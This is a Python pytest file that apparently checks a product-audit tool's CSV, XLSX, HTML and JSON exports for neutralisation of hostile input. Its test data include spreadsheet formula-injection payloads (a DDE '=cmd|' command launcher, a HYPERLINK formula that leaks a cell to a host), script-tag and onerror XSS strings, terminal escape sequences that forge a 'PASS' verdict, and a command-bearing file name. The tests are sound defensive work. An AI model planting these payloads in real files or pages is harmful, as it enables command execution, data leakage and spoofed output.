"""Text from input stays data in every batch format (issue 14 items 1-3, 9): no formula in CSV or
XLSX, no markup in HTML, no control character anywhere, a product or an error for every input."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from checker.engine.run import Evaluated
from checker.outputs import write_stream
from checker.pipeline import audit

AS_OF = date(2026, 11, 20)
HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1+1)", "＝1+1",
           "SRV\x1b[2K\r verdict: PASS", "ID\x0bwith vt", "<script>alert(1)</script>", "<img src=x onerror=a()>",
           "bidi\u202eevil"]
FORMULA = ("=", "+", "-", "@", "＝")
CONTROLS = ("\x1b", "\x0b", "\r", "\u202e")


@pytest.fixture(scope="module")
def evaluated(tmp_path_factory: pytest.TempPathFactory) -> Evaluated:
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "hostile.csv"
    lines = ["model,category,psu_efficiency_50"] + ['"' + text.replace('"', '""') + '",server,90' for text in HOSTILE]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    bad = folder / "=cmd|calc.yaml"
    bad.write_text("category: [unclosed\n", encoding="utf-8")
    return audit([path, bad], AS_OF)


def _written(evaluated: Evaluated, fmt: str, tmp_path: Path) -> Path:
    out = tmp_path / f"out.{fmt}"
    write_stream(evaluated, fmt, out, "en", True)
    return out


def test_every_input_is_a_product_or_an_error(evaluated: Evaluated) -> None:
    assert len(evaluated.batch.frame) == len(HOSTILE) and len(evaluated.errors) == 1


def test_csv_cells_are_data(evaluated: Evaluated, tmp_path: Path) -> None:
    text = _written(evaluated, "csv", tmp_path).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == len(HOSTILE) + 1 and rows[-1][2] == "error"
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(FORMULA), cell
        assert not any(c in cell for c in CONTROLS), cell
    assert any(row[0] == "'=cmd|'/c calc'!A1" for row in rows)  # shown, neutralised


def test_xlsx_cells_are_data(evaluated: Evaluated, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(_written(evaluated, "xlsx", tmp_path))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA) and not any(c in cell.value for c in CONTROLS)
                    seen.add(cell.value)
    assert "'+1+1" in seen and "<script>alert(1)</script>" in seen


def test_html_shows_markup_as_text(evaluated: Evaluated, tmp_path: Path) -> None:
    text = _written(evaluated, "html", tmp_path).read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert not any(c in text for c in CONTROLS) and "SRV\\x1b[2K\\x0d verdict: PASS" in text


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
def test_json_keeps_the_text_and_stays_one_document(evaluated: Evaluated, tmp_path: Path, fmt: str) -> None:
    text = _written(evaluated, fmt, tmp_path).read_text(encoding="utf-8")
    assert "\x1b" not in text and "\x0b" not in text  # escaped by JSON itself
    if fmt == "json":
        ids = [p["id"] for p in json.loads(text)["products"]]
    else:
        assert len(text.splitlines()) == len(HOSTILE) + 1
        ids = [json.loads(line)["id"] for line in text.splitlines() if '"verdict"' in line]
    assert ids == HOSTILE  # JSON carries the text exactly; its reader decides how to show it
